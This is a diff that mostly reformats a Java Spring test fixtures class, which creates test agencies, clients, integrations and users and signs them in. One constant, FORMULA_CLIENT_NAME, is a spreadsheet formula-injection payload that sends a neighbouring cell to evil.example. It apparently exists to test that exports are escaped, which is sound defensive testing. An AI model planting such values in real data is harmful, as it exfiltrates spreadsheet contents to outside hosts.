@@ -20,15 +20,21 @@ import org.springframework.boot.test.context.TestComponent;
 import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
 import org.springframework.security.core.context.SecurityContextHolder;
 
-/** Intent-revealing test data; every agency, client and e-mail is unique so tests never collide. */
+/**
+ * Intent-revealing test data; every agency, client and e-mail is unique so tests never
+ * collide.
+ */
 @TestComponent
 public class Fixtures {
 
     public static final String PASSWORD = "correct horse battery";
 
     private final AgencyService agencies;
+
     private final ClientService clients;
+
     private final UserService users;
+
     private final io.plumbline.integration.IntegrationService integrations;
 
     Fixtures(AgencyService agencies, ClientService clients, UserService users,
@@ -62,7 +68,10 @@ public class Fixtures {
         }
     }
 
-    /** A client name that a spreadsheet would run as a formula, sending the cell next to it to another site. */
+    /**
+     * A client name that a spreadsheet would run as a formula, sending the cell next to
+     * it to another site.
+     */
     public static final String FORMULA_CLIENT_NAME = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Soylent\")";
 
     public static String unique(String prefix) {
@@ -77,16 +86,18 @@ public class Fixtures {
     }
 
     public ClientDetails aClient(TestAgency agency) {
-        return agency.scope().call(() -> clients.create(new ClientDraft(unique("Client"), null, Industry.SAAS,
-                ZoneId.of("Europe/Berlin"), "#123456")));
+        return agency.scope()
+            .call(() -> clients
+                .create(new ClientDraft(unique("Client"), null, Industry.SAAS, ZoneId.of("Europe/Berlin"), "#123456")));
     }
 
     public io.plumbline.integration.IntegrationDetails anIntegration(TestAgency agency, ClientDetails client) {
         String key = unique("crm").toLowerCase();
-        return agency.scope().call(() -> integrations.register(new io.plumbline.integration.IntegrationDraft(client.id(), key,
-                "HubSpot for " + client.name(), io.plumbline.integration.Category.CRM, "HubSpot", "https://api.hubapi.com",
-                "v3", io.plumbline.integration.AuthType.OAUTH2, null, null, null,
-                io.plumbline.integration.Criticality.HIGH, null, null)));
+        return agency.scope()
+            .call(() -> integrations.register(new io.plumbline.integration.IntegrationDraft(client.id(), key,
+                    "HubSpot for " + client.name(), io.plumbline.integration.Category.CRM, "HubSpot",
+                    "https://api.hubapi.com", "v3", io.plumbline.integration.AuthType.OAUTH2, null, null, null,
+                    io.plumbline.integration.Criticality.HIGH, null, null)));
     }
 
     public TestUser aUser(TestAgency agency, Role role) {
@@ -99,7 +110,8 @@ public class Fixtures {
 
     private TestUser aUser(TestAgency agency, Role role, ClientId client) {
         String email = unique(role.name().toLowerCase()) + "@user.test";
-        UserId id = agency.scope().call(() -> users.createWithPassword(new NewUser(email, null, role, client), PASSWORD));
+        UserId id = agency.scope()
+            .call(() -> users.createWithPassword(new NewUser(email, null, role, client), PASSWORD));
         return new TestUser(id, email, role, new TenantScope(agency.id(), client));
     }
 
@@ -110,11 +122,13 @@ public class Fixtures {
     /** Signs the user in on this thread, as the login form would. */
     public static void signInAs(TestUser user) {
         PlumblineUser principal = user.principal();
-        SecurityContextHolder.getContext().setAuthentication(
-                UsernamePasswordAuthenticationToken.authenticated(principal, null, principal.getAuthorities()));
+        SecurityContextHolder.getContext()
+            .setAuthentication(
+                    UsernamePasswordAuthenticationToken.authenticated(principal, null, principal.getAuthorities()));
     }
 
     public static void signOut() {
         SecurityContextHolder.clearContext();
     }
+
 }
